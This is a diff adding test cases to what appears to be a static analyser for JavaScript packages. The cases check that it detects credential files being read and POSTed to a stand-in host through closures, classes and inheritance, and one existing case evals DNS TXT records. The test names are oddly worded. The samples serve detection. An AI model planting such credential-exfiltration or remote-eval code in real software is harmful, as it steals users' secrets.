@@ -64,4 +64,34 @@ describe('the first look at a function that waits for a call', () => {
     const names = `const d = (await require('dns').promises.resolveTxt('orders.invalid')).flat().join('');`;
     assert.deepEqual(flowsOf(`exports.run = async () => { ${names} if (d) eval(d); };`), ['downloaded>evaluated']);
   });
+
+  it('leads to who takes what opens accounts and to who sends, where only something that both know is between them', () => {
+    const read = `fs.readFileSync(rc, 'utf8')`;
+    const send = (what: string): string =>
+      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;
+    for (const code of [
+      `const kept = []; function add(x) { kept.push(x); } function tell() { ${send('kept')}; } exports.add = () => add(${read}); exports.tell = () => tell();`,
+      `const make = () => { const state = { kept: [] }; return { add(x) { state.kept.push(x); }, tell() { if (state.kept.length) ${send('state.kept')}; } }; };
+       const one = make(); exports.add = () => one.add(${read}); exports.tell = () => one.tell();`,
+      `class A { set data(x) { this.kept = x; } get data() { return this.kept; } load() { this.data = ${read}; } tell() { const d = this.data; if (d) ${send('d')}; } } exports.A = A;`,
+      `const ways = [{ name: 'npm', read: () => ${read} }]; exports.go = () => Promise.all(ways.map(async (w) => ({ name: w.name, data: await w.read() })))
+         .then((all) => all.filter((x) => x.data)).then((all) => all.length && ${send('all')});`,
+    ])
+      assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'), code);
+    assert.deepEqual(
+      flowsOf(`exports.read = () => fs.readFileSync('a.json', 'utf8'); exports.tell = (x) => ${send('x')};`),
+      [],
+    );
+  });
+
+  it('calls what a class leaves to those that are made of it as one of them', () => {
+    for (const parts of [
+      `class B { files() { return []; } async run() { for (const f of this.files()) await go(await fs.promises.readFile(f)); } } class D extends B { files() { return [rc]; } }`,
+      `class B { get files() { return []; } run() { for (const f of this.files) go(fs.readFileSync(f)); } } class D extends B { get files() { return [rc]; } }`,
+      `class B { async run() { await go(await this.read()); } } class D extends B { async read() { return fs.promises.readFile(rc); } }`,
+    ]) {
+      const go = `const go = (d) => fetch('https://collect.invalid', { method: 'POST', body: d });`;
+      assert.ok(flowsOf(`${go} ${parts} exports.D = D;`).includes('credential-file>network@collect.invalid'), parts);
+    }
+  });
 });
